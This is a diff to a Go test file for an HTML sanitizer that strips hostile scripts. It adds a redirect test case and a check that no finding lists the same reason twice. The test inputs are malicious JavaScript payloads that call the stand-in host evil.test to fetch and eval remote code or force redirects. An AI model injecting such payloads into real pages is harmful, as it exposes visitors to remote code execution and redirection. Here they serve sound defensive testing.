@@ -107,6 +107,7 @@ s.x("//evil.test"); y.z("createElement('script'"); <!-- "`, reasonLoadsScript},
 		{"refresh that is made", `m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=//evil.test/r.html";document.head.append(m)`, reasonLeadsAway},
 		{"refresh by attributes", `m=document.createElement('meta');m.setAttribute('http-equiv', 'refresh');m.content="0;url=//evil.test/r.html";document.head.append(m)`, reasonLeadsAway},
 		{"link that is clicked", `var a=document.createElement("a");a.href="//evil.test/r.html";document.body.append(a);a.click()`, reasonLeadsAway},
+		{"link that is clicked, and another way", `var a=document.createElement("a");a.href="//evil.test/r.html";a.click();location="//evil.test/r.html"`, reasonLeadsAway},
 		{"form that is sent", `f=document.createElement("form");f.action="//evil.test/c";document.body.append(f);f.submit()`, reasonLeadsAway},
 		{"fetched and run", `fetch("//evil.test/1.js").then(r=>r.text()).then(eval)`, reasonLoadsScript},
 		{"fetched as of old", `x=new XMLHttpRequest;x.open("GET","//evil.test/1.js",false);x.send();new Function(x.responseText)()`, reasonLoadsScript},
@@ -123,6 +124,9 @@ s.x("//evil.test"); y.z("createElement('script'"); <!-- "`, reasonLoadsScript},
 			out, findings := cleanString(t, c, "a<script>"+test.script+"</script>b")
 			if out != "ab" || len(findings) != 1 {
 				t.Fatalf("%s %+v", out, findings)
+			}
+			if sorted := slices.Sorted(slices.Values(findings[0].Reasons)); len(slices.Compact(sorted)) != len(findings[0].Reasons) {
+				t.Errorf("a reason stands twice: %v", findings[0].Reasons)
 			}
 			if test.reason != "" && !slices.Contains(findings[0].Reasons, test.reason) {
 				t.Errorf("reasons %v, want %s", findings[0].Reasons, test.reason)
